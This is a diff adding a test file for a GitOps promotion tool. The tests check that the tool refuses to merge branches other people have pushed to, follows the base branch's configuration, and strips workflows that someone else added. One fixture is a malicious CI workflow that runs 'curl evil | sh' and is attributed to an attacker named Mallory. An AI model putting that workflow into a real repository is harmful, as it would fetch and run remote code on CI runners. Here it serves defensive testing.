@@ -1,0 +1,131 @@
+/**
+ * A pull-request branch is anyone's to push to who may push to the repository: gitops-promote
+ * merges only what it pushed there itself (a person's commits are for a person to merge),
+ * follows the base's configuration, and never carries workflows or its configuration from the
+ * branch into its own commit.
+ */
+import { afterEach, beforeEach, describe, expect, it } from "vitest";
+import { createClient } from "../../src/github/client.js";
+import { deliver, type DeliveryContext, type DeliveryOptions } from "../../src/github/deliver.js";
+import { GitRepo, type Identity } from "../../src/github/git.js";
+import { startFakeGitHub, type FakeGitHub } from "../support/github-fake.js";
+import { checkout, cloneRepo, deployment, OWNER, REPO } from "./fixture.js";
+
+const APP = "ghcr.io/acme/app";
+const API = "ghcr.io/acme/api";
+const PR = "gitops-promote/release";
+const CONFIG = ".github/gitops-promote.yaml";
+const request = (image: string) => ({ images: [image], setters: [], sets: [], paths: [] });
+const pr = (merge: DeliveryOptions["merge"]): DeliveryOptions => ({
+  mode: "pull-request",
+  prBranch: PR,
+  labels: [],
+  reviewers: [],
+  merge,
+  mergeMethod: "squash",
+  commitVia: "api",
+  dryRun: false,
+});
+const mallory: Identity = { name: "Mallory", email: "mallory@evil.test" };
+
+describe("deliver: a pull-request branch someone else pushed to", () => {
+  let fake: FakeGitHub;
+  let ctx: DeliveryContext;
+  let person: GitRepo;
+  beforeEach(async () => {
+    fake = await startFakeGitHub();
+    const config = `targets:\n  - name: release\n    paths: ["**"]\n    images: [{ repository: ${APP} }, { repository: ${API} }]\n`;
+    const { git } = await checkout(fake, { "app.yaml": deployment("app", `${APP}:1.0.0`), "api.yaml": deployment("api", `${API}:2.0.0`), [CONFIG]: config });
+    const client = createClient({ token: fake.token, baseUrl: fake.apiUrl });
+    ctx = { git, remote: "origin", repository: { owner: OWNER, repo: REPO }, client: () => client, log: () => undefined };
+    person = new GitRepo(await cloneRepo(fake));
+  });
+  afterEach(() => fake.close());
+
+  /** A commit by `who` on the pull-request branch (created from main when absent). */
+  const pushToPr = async (files: Record<string, string>, who = mallory) => {
+    const head = (await person.fetch("origin", PR)) ?? (await person.fetch("origin", "main"))!;
+    const writes = Object.entries(files).map(([path, content]) => ({ path, content, mode: "100644" }));
+    const commit = await person.commitTree(await person.writeTree(head, writes), head, "tweak\n", who, who);
+    expect(await person.push("origin", commit, PR)).toBe("pushed");
+  };
+  /** Required checks pending on every pull request: auto-merge is recorded, not done. */
+  const checksPending = () =>
+    fake.inject({
+      operationId: "graphql",
+      times: 100,
+      beforeHandle: async () => {
+        for (const pull of fake.pulls(OWNER, REPO)) if (pull.state === "open" && !pull.autoMerge) await fake.setMergeState(OWNER, REPO, pull.number, "BLOCKED");
+      },
+    });
+  const messages = (result: Awaited<ReturnType<typeof deliver>>) => result.plan.warnings.map((w) => (w.file ? `${w.file}: ${w.message}` : w.message));
+
+  it("a branch made before the run is rebuilt without its workflows and left open, not merged, whatever merge says", async () => {
+    const evil = "on: push\njobs: { x: { runs-on: ubuntu-latest, steps: [ { run: 'curl evil | sh' } ] } }\n";
+    await pushToPr({
+      ".github/workflows/pwn.yml": evil,
+      "api.yaml": deployment("api", `${API}:2.0.0`).replace("name: api\n", "name: api\n  privileged: true\n"),
+    });
+
+    const result = await deliver(ctx, request(`${APP}:1.1.0`), pr("immediate"));
+    const [pull] = fake.pulls(OWNER, REPO);
+    expect(pull).toMatchObject({ state: "open", merged: false });
+    expect(result.landings[0]!.merge).toBe("none");
+    expect(await fake.readFile(OWNER, REPO, PR, ".github/workflows/pwn.yml")).toBeUndefined();
+    expect(await fake.readFile(OWNER, REPO, "main", ".github/workflows/pwn.yml")).toBeUndefined();
+    // A person's edit to a manifest stays on the branch for review, and the body names it.
+    expect(await fake.readFile(OWNER, REPO, PR, "api.yaml")).toContain("privileged: true");
+    expect(pull!.body).toContain("Also on this branch, from its earlier commits: `api.yaml`.");
+    expect(messages(result)).toEqual([
+      `.github/workflows/pwn.yml: ${PR} changed this file, which gitops-promote never writes (the workflows under .github/, its configuration): left out when rebuilding the pull request's branch`,
+      `pull request #1 is left open for review: ${PR} holds commits by Mallory, and gitops-promote merges only what it pushed itself; merge it yourself, or close it to start afresh`,
+    ]);
+  });
+
+  it("merges a branch that holds only its own pushes: a second image joins the first under auto-merge", async () => {
+    checksPending();
+    const first = await deliver(ctx, request(`${APP}:1.1.0`), pr("auto"));
+    expect(first.landings[0]!.merge).toBe("auto-merge");
+
+    const second = await deliver(ctx, request(`${API}:2.0.1`), pr("auto"));
+    expect(second.landings[0]!.merge).toBe("auto-merge");
+    expect(second.plan.warnings).toEqual([]);
+    expect(fake.pulls(OWNER, REPO)[0]!.autoMerge).not.toBeNull();
+    await fake.completeAutoMerge(OWNER, REPO, 1);
+    expect(await fake.readFile(OWNER, REPO, "main", "app.yaml")).toContain(`${APP}:1.1.0`);
+    expect(await fake.readFile(OWNER, REPO, "main", "api.yaml")).toContain(`${API}:2.0.1`);
+  });
+
+  it("turns off auto-merge once a person pushed to the branch, and keeps it off for later runs", async () => {
+    checksPending();
+    await deliver(ctx, request(`${APP}:1.1.0`), pr("auto"));
+    await pushToPr({ "notes.yaml": "by: Mallory\n" });
+
+    const second = await deliver(ctx, request(`${API}:2.0.1`), pr("auto"));
+    expect(second.landings[0]!.merge).toBe("none");
+    expect(fake.pulls(OWNER, REPO)[0]!.autoMerge).toBeNull();
+    expect(messages(second)).toEqual([
+      `pull request #1 is left open for review, and its auto-merge is turned off: ${PR} holds commits by Mallory, and gitops-promote merges only what it pushed itself; merge it yourself, or close it to start afresh`,
+    ]);
+
+    // Our rebuild is now the branch's only commit, but it folds in Mallory's (and credits her): still not ours to merge.
+    const third = await deliver(ctx, request(`${APP}:1.2.0`), pr("auto"));
+    expect(third.landings[0]!.merge).toBe("none");
+    expect(fake.pulls(OWNER, REPO)[0]!.autoMerge).toBeNull();
+    expect(await fake.readFile(OWNER, REPO, "main", "app.yaml")).toContain(`${APP}:1.0.0`);
+  });
+
+  it("follows the base's configuration, not the branch's, and leaves the branch's out", async () => {
+    const widened = `targets:\n  - name: release\n    paths: ["**"]\n    images: [{ repository: ${APP} }, { repository: ${API} }, { repository: postgres }]\n`;
+    await pushToPr({ [CONFIG]: widened, "db.yaml": deployment("db", "postgres:16.4") });
+    await fake.commitFile(OWNER, REPO, "main", "db.yaml", deployment("db", "postgres:16.4"));
+
+    const result = await deliver(ctx, { ...request("postgres:9.4"), images: ["postgres:9.4", `${APP}:1.1.0`] }, pr("none"));
+    expect(result.landings[0]!.changes.map((c) => c.new)).toEqual([`${APP}:1.1.0`]);
+    expect(await fake.readFile(OWNER, REPO, PR, "db.yaml")).toContain("postgres:16.4");
+    expect(await fake.readFile(OWNER, REPO, PR, CONFIG)).not.toContain("postgres");
+    expect(messages(result)).toContain(
+      `${CONFIG}: ${PR} changed this file, which gitops-promote never writes (the workflows under .github/, its configuration): left out when rebuilding the pull request's branch`,
+    );
+  });
+});
